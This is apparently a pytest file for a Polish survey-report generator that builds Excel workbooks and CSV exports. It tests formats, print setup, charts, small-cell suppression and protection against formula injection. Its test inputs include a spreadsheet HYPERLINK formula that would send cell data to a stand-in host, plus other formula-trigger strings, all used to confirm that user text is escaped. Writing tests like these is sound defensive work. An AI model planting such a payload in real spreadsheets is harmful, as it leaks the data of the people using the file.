"""The workbook and the CSV: sheets, headers, formats, TERYT as text, chart, no formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from forms.loader import load_survey_file
from reports import build
from reports.csv import decimal_comma, write_raw_csv
from reports.frame import build_frame
from reports.indicators import load_indicators_file
from reports.xlsx import COUNT, MONEY, PERCENT, ReportInfo, write_report
from tests.support.workbooks import chapter_tables

ROOT = Path(__file__).resolve().parent.parent
SURVEY, _ = load_survey_file(ROOT / "survey_defs" / "jst-annual.yaml")
INDICATORS, _ = load_indicators_file(ROOT / "survey_defs" / "jst-annual.indicators.yaml",
                                     SURVEY)
EVIL = ['=HYPERLINK("http://zly.example/?x="&A1,"kliknij")', "+1", "-2", "@x", "=1+1"]


def records() -> list[dict]:
    found = []
    for i, evil in enumerate(EVIL, start=1):
        found.append({
            "unit_id": i, "unit_name": evil, "unit_kind": "gmina",
            "territory": f"16040{i}", "rodz": "2", "powiat_name": "kluczborski",
            "wojewodztwo_name": "OPOLSKIE", "status": "submitted",
            "answers": {"zam_ogolem_wartosc": f"{i}000.50", "zam_ogolem_liczba": i,
                        "klauzule_stosowane": "yes" if i % 2 else "no",
                        "uwagi": evil, "sporzadzil_imie_nazwisko": evil,
                        "jednostka_wypelniajaca": ["urzad", "ops"]},
        })
    return found


def info() -> ReportInfo:
    return ReportInfo(EVIL[4], "Ankieta JST — 2025 (runda nr 1)", "2025",
                      "jst-annual wersja 2025.1", datetime(2026, 3, 31, 12, 0))


@pytest.fixture
def workbook():
    frame = build_frame(records(), SURVEY, reporting_year=2025)
    content = build.regional(info(), frame, ["powiat", "gmina_type"], indicators=INDICATORS)
    out = io.BytesIO()
    write_report(out, content)
    out.seek(0)
    data = out.getvalue()
    return openpyxl.load_workbook(io.BytesIO(data)), data


def test_sheets_and_headers(workbook):
    book, _ = workbook
    names = book.sheetnames
    assert names[:4] == ["Informacje", "Spis treści", "Wskaźniki", "1. Kto odpowiedział"]
    assert names[-2:] == ["Dane", "Słownik"]
    assert "4. Zamówienia publiczne i klauz" in names
    contents = [[c.value for c in r] for r in book["Spis treści"].iter_rows(min_row=2)]
    assert [r[0] for r in contents] == [n for n in names if n != "Spis treści"]
    assert book["Spis treści"]["A2"].hyperlink.location == "'Informacje'!A1"
    raw = book["Dane"]
    header = [c.value for c in raw[1]]
    assert header[:9] == ["unit_id", "unit_name", "unit_kind", "teryt", "gmina_type", "powiat",
                          "podregion", "wojewodztwo", "status"]
    assert "jst_teryt" in header
    assert "jednostka_wypelniajaca" in header
    assert not any(h.startswith("jednostka_wypelniajaca__") for h in header)
    for sheet in (book[n] for n in ("Informacje", "Spis treści", "Wskaźniki", "Dane",
                                    "Słownik")):
        assert sheet.freeze_panes is not None
        assert sheet.freeze_panes.endswith("2")
        assert sheet.auto_filter.ref
        assert not sheet.merged_cells.ranges
    codebook = {r[0].value: [c.value for c in r] for r in book["Słownik"].iter_rows(min_row=2)}
    assert codebook["klauzule_stosowane"][2] == "yes_no"
    assert "yes = Tak" in codebook["klauzule_stosowane"][3]
    assert codebook["zam_ogolem_wartosc"][4] == "Zamówienia publiczne i klauzule społeczne"
    assert "2025" in codebook["klauzule_stosowane"][1]


def test_numbers_are_numbers_with_formats(workbook):
    book, _ = workbook
    raw = book["Dane"]
    header = [c.value for c in raw[1]]
    money = raw.cell(2, header.index("zam_ogolem_wartosc") + 1)
    assert money.value == pytest.approx(1000.50)
    assert money.number_format == MONEY
    count = raw.cell(2, header.index("zam_ogolem_liczba") + 1)
    assert count.value == 1
    assert count.number_format == COUNT
    teryt = raw.cell(2, 4)
    assert teryt.value == "1604012"
    assert teryt.data_type == "s"
    tables = chapter_tables(book)
    chapter = "4. Zamówienia publiczne i klauz"
    header, rows = tables[(chapter, "Czy w roku 2025 JST (urząd i jednostki organizacyjne) "
                           "stosowała klauzule / aspekty społeczne w zamówieniach? — Powiat")]
    assert header == ["Powiat", "liczba odpowiedzi", "odsetek „tak”", "odsetek odpowiedzi"]
    assert rows["1604 kluczborski"][1:4] == [5, pytest.approx(0.6), 1]
    assert rows["Ogółem"][2] == pytest.approx(0.6)
    sheet = book["4. Zamówienia publiczne i klauz"]
    shares = [c for r in sheet.iter_rows() for c in r if c.value == pytest.approx(0.6)]
    assert {c.number_format for c in shares} == {PERCENT}
    amounts = tables[(chapter, "Odpowiedzi liczbowe — Powiat")]
    assert amounts[1]["Ogółem"][2] == pytest.approx(15002.50)  # 1000.50 + … + 5000.50


def test_print_setup_in_every_sheet(workbook):
    """Landscape A4, fitted to the page width, header rows repeated, page numbers."""
    book, data = workbook
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape", sheet.title
        assert setup.paperSize == 9, sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert setup.fitToHeight == 0, sheet.title
        # one page wide; the raw data: a page per 18 of its columns, side by side
        pages = 1 if sheet.title != "Dane" else -(-sheet.max_column // 18)
        assert (setup.fitToWidth or 1) == pages, sheet.title
        assert sheet.print_title_rows == "$1:$1", sheet.title
        assert "&P" in sheet.oddFooter.center.text, sheet.title
    assert book["Dane"].print_title_cols == "$A:$B"
    info_sheet = {r[0].value: r[1] for r in book["Informacje"].iter_rows(min_row=2)}
    assert info_sheet["Odsetek odpowiedzi"].value == 1
    assert info_sheet["Odsetek odpowiedzi"].number_format == PERCENT
    assert info_sheet["Okres sprawozdawczy"].value == "2025"
    assert info_sheet["Raport"].value == "=1+1"
    assert info_sheet["Raport"].quotePrefix


def test_user_text_never_becomes_a_formula(workbook):
    book, data = workbook
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in EVIL:
                    seen.add(cell.value)
                    assert cell.data_type == "s"
                    assert cell.quotePrefix
    assert seen == set(EVIL)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)


def test_indicator_sheet_has_a_native_chart(workbook):
    book, data = workbook
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "xl/charts/chart1.xml" in archive.namelist()
        chart = archive.read("xl/charts/chart1.xml").decode()
    assert "Wskaźniki!$L$2:$L$14" in chart
    assert len(book["Wskaźniki"]._charts) == 1
    header = [c.value for c in book["Wskaźniki"][1]]
    assert header[4:12] == ["Wartość bazowa", "Rok bazowy", "Wartość docelowa", "Rok docelowy",
                            "Kierunek", "Osiągnięto", "Status", "Realizacja celu"]
    rows = {r[0].value: r for r in book["Wskaźniki"].iter_rows(min_row=2)}
    share = rows["wartosc_zamowien_spolecznych_od_130k"]
    assert share[6].value == pytest.approx(0.05)
    assert share[6].number_format == PERCENT
    # years print as years ("2030", not "2,030"): no thousands separator
    years = [row[c] for row in rows.values() for c in (5, 7) if row[c].value is not None]
    assert years
    assert {cell.number_format for cell in years} == {"0"}


def test_suppressed_workbook_leaves_sensitive_columns_out_of_raw_data():
    survey, _ = load_survey_file(ROOT / "survey_defs" / "cis-annual.yaml")
    frame = build_frame([{
        "unit_id": 1, "unit_name": "CIS", "unit_kind": "cis", "territory": "160402",
        "rodz": "3", "powiat_name": "kluczborski", "wojewodztwo_name": "OPOLSKIE",
        "status": "submitted",
        "answers": {"uczestnicy_wg_przeslanki": {"bezdomni": {"kobiety": 1, "mezczyzni": 4}}},
    }], survey)
    out = io.BytesIO()
    write_report(out, build.regional(info(), frame, ["powiat"], small_cells=True))
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    header = [c.value for c in book["Dane"][1]]
    assert not any(h.startswith("uczestnicy_wg_przeslanki") for h in header)
    values = [c.value for sheet in book.worksheets if sheet.title[:1].isdigit()
              for row in sheet.iter_rows() for c in row]
    assert "<3" in values
    notes = [r[1].value for r in book["Informacje"].iter_rows(min_row=2)]
    assert any("<3" in str(n) for n in notes)


def test_csv_is_excel_friendly_and_formula_safe():
    frame = build_frame(records(), SURVEY)
    out = io.StringIO(newline="")
    assert write_raw_csv(out, frame) == len(EVIL)
    text = out.getvalue()
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["teryt"] == "1604012"
    assert first["zam_ogolem_wartosc"] == "1000,50"
    assert first["unit_name"] == "'" + EVIL[0]
    names = [dict(zip(header, r, strict=True))["unit_name"] for r in rows[1:]]
    assert names == ["'" + e for e in EVIL]


@pytest.mark.parametrize(("minor", "places", "text"), [
    (123450, 2, "1234,50"), (-5, 2, "-0,05"), (7, 0, "7"), (5, 3, "0,005")])
def test_decimal_comma(minor, places, text):
    assert decimal_comma(minor, places) == text


def test_formula_like_header_cells_get_the_quote_prefix_too():
    from reports.xlsx import _Book

    out = io.BytesIO()
    book = _Book(out)
    sheet = book.wb.add_worksheet("Tabela")
    book.header_row(sheet, [EVIL[0], "-podregion", "Powiat"], [20, 20, 20], 0)
    book.wb.close()
    header = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["Tabela"][1]
    assert [c.value for c in header] == [EVIL[0], "-podregion", "Powiat"]
    assert [bool(c.quotePrefix) for c in header] == [True, True, False]
    assert all(c.data_type == "s" for c in header)
    assert all(c.font.bold for c in header)
